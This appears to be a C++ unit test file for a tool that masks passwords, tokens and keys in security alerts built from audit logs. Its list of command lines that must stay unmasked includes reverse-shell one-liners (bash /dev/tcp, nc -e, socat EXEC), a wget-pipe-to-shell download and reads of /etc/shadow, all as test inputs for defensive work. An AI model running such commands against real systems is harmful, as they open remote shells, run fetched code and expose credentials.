// SPDX-License-Identifier: Apache-2.0
#include "detect/alert/mask.hpp"

#include <string>
#include <vector>

#include "tests/unit/alert/story.hpp"

namespace {

using namespace audisp_eql::detect;
namespace json = boost::json;

using Words = std::vector<std::string>;

std::string joined(const Words& words) {
    std::string out;
    for (const std::string& word : words)
        out += (out.empty() ? "" : " ") + word;
    return out;
}

BOOST_AUTO_TEST_SUITE(alert)

BOOST_AUTO_TEST_CASE(secrets_in_words_are_masked) {
    struct Row {
        Words words;
        const char* masked;
    };
    const Row rows[] = {
        {{"mysql", "-uroot", "-pS3", "shop"}, "mysql -uroot -p[masked] shop"},
        {{"/usr/bin/mysqldump", "-pmy secret", "shop"}, "/usr/bin/mysqldump -p[masked] shop"},
        {{"sudo", "-E", "mysql", "-pS3"}, "sudo -E mysql -p[masked]"},
        {{"docker", "exec", "-it", "db", "mariadb", "-pS3"},
         "docker exec -it db mariadb -p[masked]"},
        {{"mysql", "--password=S 3"}, "mysql --password=[masked]"},
        {{"x", "--password", "S3", "next"}, "x --password [masked] next"},
        {{"x", "--password", "", "next"}, "x --password  next"},
        {{"x", "-password", "S3"}, "x -password [masked]"},
        {{"sshpass", "-p", "S3", "ssh", "-p", "22", "h"}, "sshpass -p [masked] ssh -p 22 h"},
        {{"sshpass", "-pS3", "ssh", "h"}, "sshpass -p[masked] ssh h"},
        {{"curl", "-u", "user:S3", "http://h/"}, "curl -u user:[masked] http://h/"},
        {{"curl", "-sku", "user:S3", "http://h/"}, "curl -sku user:[masked] http://h/"},
        {{"curl", "-uuser:S3"}, "curl -uuser:[masked]"},
        {{"curl", "--user=user:S3"}, "curl --user=user:[masked]"},
        {{"curl", "--proxy-user", "user:S3"}, "curl --proxy-user user:[masked]"},
        {{"curl", "-H", "Authorization: Bearer S3", "http://h/"},
         "curl -H Authorization: Bearer [masked] http://h/"},
        {{"curl", "-H", "Authorization:", "Basic", "S3", "http://h/"},
         "curl -H Authorization: Basic [masked] http://h/"},
        {{"curl", "-H", "authorization: token S3"}, "curl -H authorization: token [masked]"},
        {{"curl", "-H", "X-Api-Key: S3"}, "curl -H X-Api-Key: [masked]"},
        {{"curl", "-HX-Auth-Token:S3"}, "curl -HX-Auth-Token:[masked]"},
        {{"curl", "-H", "Cookie: a=S3; b=S4"}, "curl -H Cookie: [masked]"},
        {{"curl", "-d", R"({"user":"u", "password": "S 3"})"},
         R"(curl -d {"user":"u", "password": "[masked]"})"},
        {{"curl", "-d", R"({\"token\":\"S3\"})"}, R"(curl -d {\"token\":\"[masked]\"})"},
        {{"curl", "-d", "user=u&password=S3&x=1"}, "curl -d user=u&password=[masked]&x=1"},
        {{"curl", "https://h/?access_token=S3&x=1"}, "curl https://h/?access_token=[masked]&x=1"},
        {{"git", "clone", "https://u:S3@h/r.git"}, "git clone https://u:[masked]@h/r.git"},
        {{"git", "clone", "https://u:S@3@h/r.git"}, "git clone https://u:[masked]@h/r.git"},
        {{"git", "clone", "https://u:S/3@h/r.git"}, "git clone https://u:[masked]@h/r.git"},
        {{"git", "clone", "https://token:S3@h/r"}, "git clone https://token:[masked]@h/r"},
        {{"git", "clone", "https://0123456789abcdef0123456789abcdef@h/r"},
         "git clone https://[masked]@h/r"},
        {{"psql", "postgresql://u:S3@h:5432/d"}, "psql postgresql://u:[masked]@h:5432/d"},
        {{"psql", "host=h user=u password=S3 dbname=d"},
         "psql host=h user=u password=[masked] dbname=d"},
        {{"env", "PGPASSWORD=S 3", "psql"}, "env PGPASSWORD=[masked] psql"},
        {{"env", "MYSQL_PWD=S3", "AWS_SECRET_ACCESS_KEY=S3"},
         "env MYSQL_PWD=[masked] AWS_SECRET_ACCESS_KEY=[masked]"},
        {{"x", "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"}, "x AWS_ACCESS_KEY_ID=[masked]"},
        {{"x", "ghp_0123456789abcdefghijABCDEFGHIJ012345"}, "x [masked]"},
        {{"x", "--jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"}, "x --jwt [masked]"},
        {{"x", "-----BEGIN RSA PRIVATE KEY-----\nS3\n-----END RSA PRIVATE KEY-----"},
         "x -----BEGIN RSA PRIVATE KEY-----[masked]-----END RSA PRIVATE KEY-----"},
        {{"bash", "-c", "mysql -pS3 shop; nc -lvp 4444"},
         "bash -c mysql -p[masked] shop; nc -lvp 4444"},
        {{"bash", "-c", "PGPASSWORD=S3 psql -h h"}, "bash -c PGPASSWORD=[masked] psql -h h"},
        {{"bash", "-c", "PGPASSWORD='S 3' psql"}, "bash -c PGPASSWORD=[masked] psql"},
        {{"bash", "-c", "export TOKEN=S3 && run"}, "bash -c export TOKEN=[masked] && run"},
        {{"bash", "-c", "ssh h \"mysql -p'S 3' x\""}, "bash -c ssh h \"mysql -p[masked] x\""},
        {{"bash", "-c", "echo root:S3 | chpasswd"}, "bash -c echo root:[masked] | chpasswd"},
        {{"bash", "-c", "chpasswd <<< root:S3"}, "bash -c chpasswd <<< root:[masked]"},
        {{"bash", "-c", "echo S3 | sudo -S id"}, "bash -c echo [masked] | sudo -S id"},
        {{"bash", "-c", "echo S3 | docker login --password-stdin -u u"},
         "bash -c echo [masked] | docker login --password-stdin -u u"},
        {{"docker", "login", "-u", "u", "-p", "S3"}, "docker login -u u -p [masked]"},
        {{"docker", "run", "-e", "DB_PASSWORD=S3", "img"},
         "docker run -e DB_PASSWORD=[masked] img"},
        {{"kubectl", "create", "secret", "generic", "x", "--from-literal=password=S3"},
         "kubectl create secret generic x --from-literal=password=[masked]"},
        {{"aws", "configure", "set", "aws_secret_access_key", "S3"},
         "aws configure set aws_secret_access_key [masked]"},
        {{"smbclient", "//h/s", "-U", "u%S3"}, "smbclient //h/s -U u%[masked]"},
        {{"lftp", "-u", "u,S3", "h"}, "lftp -u u,[masked] h"},
        {{"ldapsearch", "-x", "-D", "cn=a", "-w", "S3"}, "ldapsearch -x -D cn=a -w [masked]"},
        {{"redis-cli", "-h", "h", "-a", "S3", "ping"}, "redis-cli -h h -a [masked] ping"},
        {{"mongo", "-u", "u", "-p", "S3"}, "mongo -u u -p [masked]"},
        {{"7z", "a", "-pS3", "x.7z"}, "7z a -p[masked] x.7z"},
        {{"zip", "-P", "S3", "x.zip"}, "zip -P [masked] x.zip"},
        {{"openssl", "enc", "-k", "S3"}, "openssl enc -k [masked]"},
        {{"openssl", "rsa", "-passin", "pass:S3"}, "openssl rsa -passin pass:[masked]"},
        {{"openssl", "passwd", "-6", "S3"}, "openssl passwd -6 [masked]"},
        {{"htpasswd", "-b", "/f", "u", "S3"}, "htpasswd -b /f u [masked]"},
        {{"wpa_passphrase", "net", "S3"}, "wpa_passphrase net [masked]"},
        {{"keytool", "-storepass", "S3"}, "keytool -storepass [masked]"},
        {{"java", "-Djavax.net.ssl.keyStorePassword=S3", "X"},
         "java -Djavax.net.ssl.keyStorePassword=[masked] X"},
        {{"wget", "--http-password=S3", "h"}, "wget --http-password=[masked] h"},
        {{"gpg", "--batch", "--passphrase", "S3"}, "gpg --batch --passphrase [masked]"},
        {{"vault", "login", "S3"}, "vault login [masked]"},
        {{"mount", "-o", "user=u,password=S3,ro", "//h/s"},
         "mount -o user=u,password=[masked],ro //h/s"},
        {{"psexec.py", "DOM/admin:S3@192.0.2.1"}, "psexec.py DOM/admin:[masked]@192.0.2.1"},
        {{"xfreerdp", "/u:u", "/p:S3"}, "xfreerdp /u:u /p:[masked]"},
        {{"sqlcmd", "-S", "h", "-P", "S3"}, "sqlcmd -S h -P [masked]"},
        {{"useradd", "-p", "$6$S3", "u"}, "useradd -p [masked] u"},
        {{"nmcli", "dev", "wifi", "connect", "n", "password", "S3"},
         "nmcli dev wifi connect n password [masked]"},
        {{"x", "Server=h;Uid=u;Pwd=S3;"}, "x Server=h;Uid=u;Pwd=[masked];"},
        {{"x", "--token=\xffS3\n\x01"}, "x --token=[masked]"},
        {{"http", "-a", "u:S3", "h"}, "http -a u:[masked] h"},
    };
    for (const Row& row : rows)
        BOOST_TEST(joined(mask_args(row.words)) == row.masked);
}

// What the rows show as one secret may have any length: the mask does not tell.
BOOST_AUTO_TEST_CASE(the_mask_has_one_length) {
    for (const std::size_t length : {1U, 7U, 8U, 9U, 1000U, 100'000U})
        BOOST_TEST(mask_text("x --password=" + std::string(length, 'y')) ==
                   "x --password=[masked]");
}

BOOST_AUTO_TEST_CASE(ordinary_command_lines_stay) {
    const char* const lines[] = {
        "ssh -p 22 root@192.0.2.1",
        "ssh -p2222 -i /root/.ssh/id_rsa user@host",
        "mkdir -p /var/lib/x",
        "nc -lvp 4444",
        "nc -e /bin/sh 192.0.2.1 4444",
        "tar -pxf x.tar",
        "docker run -p 80:80 --name mysql -v secret:/run/secret mysql:8",
        "docker pull nginx:1.25@sha256:0123456789abcdef",
        "psql -p 5432 -h db -U app",
        "psql --no-password -d x",
        "mysql -u root -p shop",
        "mysql -P 3306 -h db",
        "cp -p /etc/passwd /tmp/passwd",
        "cat /etc/passwd /etc/shadow",
        "grep -i password /var/log/syslog",
        "grep -r token= /etc",
        "find / -name mysql -print",
        "find / -perm -4000 -type f",
        "passwd root",
        "passwd -l daemon",
        "python3 -c import pty; pty.spawn(\"/bin/bash\")",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "sh -c cd /tmp; wget http://192.0.2.1/x.sh -O- | sh",
        "curl -fsSL https://example.org/install.sh",
        "curl -u user http://h/",
        "git clone git@github.com:org/repo.git",
        "git clone ssh://git@example.org/r",
        "scp user@host:/tmp/x .",
        "rsync -avp user@host:/a /b",
        "env PWD=/root OLDPWD=/tmp HOME=/root",
        "chromium --password-store=basic --user-data-dir=/tmp",
        "x --token-file=/run/token --password-file /run/pw",
        "x --max-tokens 100 --token-limit=5",
        "ps -p 1 -o pid,comm",
        "kill -9 1234",
        "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
        "systemctl status getty@tty1.service",
        "sed s/a/b/ file",
        "perl -pe s/x/y/",
        "sort --key=2 x",
        "openssl s_client -quiet -connect 192.0.2.1:4444",
        "mailx -s x mailto:root@example.org",
        "npm install foo@npm:bar@1.2.3",
        "http://[2001:db8::1]:8080/a@b",
        "unzip -p x.zip a",
        "journalctl -u ssh -p err",
        "lsof -p 1",
        "socat TCP:192.0.2.1:4444 EXEC:/bin/sh,pty",
        "base64 -d",
        "echo basic instructions of a bearer somebody",
        "crontab -l",
        "gpg --passphrase-file /root/p x",
    };
    for (const char* const line : lines) {
        BOOST_TEST(mask_text(line) == line);
        Words words;
        std::string text(line);
        for (std::size_t at = 0; at <= text.size();) {
            const std::size_t end = std::min(text.find(' ', at), text.size());
            words.push_back(text.substr(at, end - at));
            at = end + 1;
        }
        BOOST_TEST(joined(mask_args(words)) == line);
    }
}

// Everywhere in an alert: fields, lists, parents, raw bytes, ancestry, join keys, the sentence.
BOOST_AUTO_TEST_CASE(no_secret_leaves_in_an_alert) {
    const std::string process =
        R"("process":{"pid":42,"entity_id":"e42","name":"mysql","executable":"/usr/bin/mysql",)"
        R"("args":["mysql","-pHUSH one"],"command_line":"mysql -pHUSH one",)"
        R"("env_vars":["PGPASSWORD=HUSH two","HOME=/root"],)"
        R"("parent":{"pid":41,"name":"sh","args":["sh","-c","mysql -p'HUSH three'"],)"
        R"("command_line":"sh -c mysql -p'HUSH three'"},)"
        R"("entry_leader":{"args":["x","--token","HUSH"]}},)";
    const EventPtr event = story::event(
        R"({"@timestamp":"2023-11-14T22:13:20Z",)" + process +
            R"("event":{"category":"process","type":"start","action":"exec"},)"
            R"("file":{"path":"/tmp/https://u:HUSH@h/x"},"own":{"said":"password=HUSH"}})",
        {Origin::Kind::audit, 1'700'000'000'003, 7, 42});
    Match match;
    match.events = {event, event};
    match.join_keys = {std::string("x --password=HUSH")};
    Match other = match;
    other.join_keys = {std::string("y --password=HUSH")};
    const std::vector<Match> matches{match, other};
    const std::vector<Ancestor> ancestry{{"sh", 41, "e41", {"sh", "-c", "TOKEN=HUSH x"}}};
    FieldNames names;
    AlertContext context;
    context.ancestry = ancestry;
    context.fields = &names;
    const Alert made = make_alert(story::rule(), matches, context);
    BOOST_TEST(made.json.find("HUSH") == std::string::npos, made.json);
    BOOST_TEST(made.message.find("HUSH") == std::string::npos);
    const json::value document = story::parsed(made.json);
    BOOST_TEST(story::text_at(document, "audisp_eql.masked") == "true");
    BOOST_TEST(story::text_at(document, "process.args") == R"(["mysql","-p[masked]"])");
    BOOST_TEST(story::text_at(document, "process.command_line") == R"("mysql -p[masked]")");
    BOOST_TEST(story::text_at(document, "process.pid") == "42");
    BOOST_TEST(story::text_at(document, "process.parent.args") ==
               R"(["sh","-c","mysql -p[masked]"])");
    BOOST_TEST(made.id == make_alert(story::rule(), {&match, 1}, {}).id);

    context.mask_secrets = false;
    const Alert open = make_alert(story::rule(), matches, context);
    BOOST_TEST(open.json.find("HUSH one") != std::string::npos);
    BOOST_TEST(story::text_at(story::parsed(open.json), "audisp_eql.masked") == "(none)");
    BOOST_TEST(open.id == made.id);
}

BOOST_AUTO_TEST_CASE(exact_bytes_are_masked_too) {
    const EventPtr plain = story::exec("x", 7);
    BlockBuilder builder;
    const std::vector<std::string_view> args{"x", "--password=HUSH\xff", "\xfe"};
    builder.set_texts(FieldId::process_args, args);
    builder.set_text(FieldId::process_command_line, "x --password=HUSH\xff \xfe");
    Event::Layers layers;
    layers[static_cast<std::size_t>(place_of(FieldId::process_args).layer)] = builder.finish();
    Match match;
    match.events = {EventPtr(new Event(plain->time(), plain->origin(), layers))};
    const Alert made = make_alert(story::rule(), {&match, 1}, {});
    const json::value document = story::parsed(made.json);
    // "--password=[masked]" in hex, and the last word.
    BOOST_TEST(story::text_at(document, "audisp_eql.raw.process.args") ==
               R"(["78","2d2d70617373776f72643d5b6d61736b65645d","fe"])");
    BOOST_TEST(made.json.find("48555348") == std::string::npos);  // HUSH
}

BOOST_AUTO_TEST_CASE(what_holds_no_secret_is_not_copied) {
    const EventPtr event = story::exec("x", 7);
    BOOST_TEST(mask_event(event).get() == event.get());
}

// Nothing that a text may hold makes masking slow: a million of each.
BOOST_AUTO_TEST_CASE(masking_takes_what_it_gets) {
    for (const char* const piece :
         {"a",  "@",  ":",        "a:",        "://",         "-",           "=",
          "\"", "'",  "\\",       "password=", "password:\"", "-----BEGIN ", "eyJ",
          "$(", "x|", "mysql -p", "a:b@",      "Bearer ",     "\xff",        "\n"}) {
        std::string text;
        while (text.size() < 200'000)
            text += piece;
        BOOST_TEST(mask_text(text).size() <= 10 * text.size());
    }
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
